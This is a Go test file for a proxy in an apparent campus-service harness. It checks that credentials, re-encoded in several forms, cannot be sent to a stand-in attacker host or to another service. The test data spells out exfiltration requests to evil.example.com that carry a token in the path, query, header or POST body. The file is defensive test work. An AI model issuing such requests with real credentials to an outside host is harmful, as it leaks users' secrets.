package proxy

import (
	"context"
	"net/http"
	"net/url"
	"strconv"
	"testing"

	"github.com/pkuinfo/harness/manifest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A server may echo a credential in a form the redactor cannot predict
// (hex, reversed, upper case, split over two responses); a step can undo
// that transform in jq. The request that would carry the rebuilt value
// anywhere, to an attacker's web origin or to another campus service, is
// refused before it leaves.
func TestRequestCarryingCredentialRefused(t *testing.T) {
	attacker := newRecorder(t, echo)
	other := newRecorder(t, echo)
	card := newRecorder(t, echo)
	p := testProxy(t, card, nil, other, Limits{}, nil)
	ps := strconv.Itoa(attacker.port())
	p.resolve["evil.example.com:80"] = "127.0.0.1:" + ps
	acc := access("card", "other")
	acc.Web = []manifest.Origin{webOrigin("http", "evil.example.com", 80)}
	call := p.NewCall("demo", acc)

	const tok = "eyJhbGciOiJIUzI1NiJ9.Y2FyZC10b2tlbi0xMjM0NTY.s1gnatur3XyZ"
	forms := []string{tok, cardToken, url.QueryEscape(tok), url.QueryEscape(url.QueryEscape(tok)), jsonEscapeAll(tok), b64(tok), "x" + tok + "y", otherSess}
	for _, f := range forms {
		for i, r := range []*Request{
			{URL: "http://evil.example.com/c/" + url.PathEscape(f)},
			{URL: "http://evil.example.com/c?v=" + url.QueryEscape(f)},
			{URL: "http://evil.example.com/c", Query: url.Values{"v": {f}}},
			{URL: "http://evil.example.com/c", Query: url.Values{f: {"1"}}},
			{URL: "http://evil.example.com/c", Header: http.Header{"X-Leak": {f}}},
			{URL: "http://evil.example.com/c", Method: "POST", Body: []byte("v=" + f)},
			{Service: "other", Path: "/c/" + url.PathEscape(f)},
			{Service: "other", Path: "/c", Query: url.Values{"v": {f}}},
			{Service: "other", Path: "/c", Method: "POST", Body: []byte(`{"v":"` + f + `"}`)},
		} {
			_, err := call.Do(context.Background(), r)
			require.ErrorIs(t, err, ErrRefused, "form %q request %d", f, i)
			assertNoSecret(t, "error", err.Error())
		}
	}
	assert.Equal(t, int64(0), attacker.n.Load(), "a request carrying a credential reached the attacker")
	assert.Equal(t, int64(0), other.n.Load(), "a request carrying a credential reached another service")

	// Ordinary requests, and the proxy's own signing, still work.
	_, err := call.Do(context.Background(), &Request{URL: "http://evil.example.com/c", Query: url.Values{"v": {"[redacted]"}}})
	require.NoError(t, err)
	_, err = call.Do(context.Background(), &Request{Service: "card", Path: "/x"})
	require.NoError(t, err)
	assert.Equal(t, cardToken, card.Hits()[0].Header.Get("Synjones-Auth"))
}
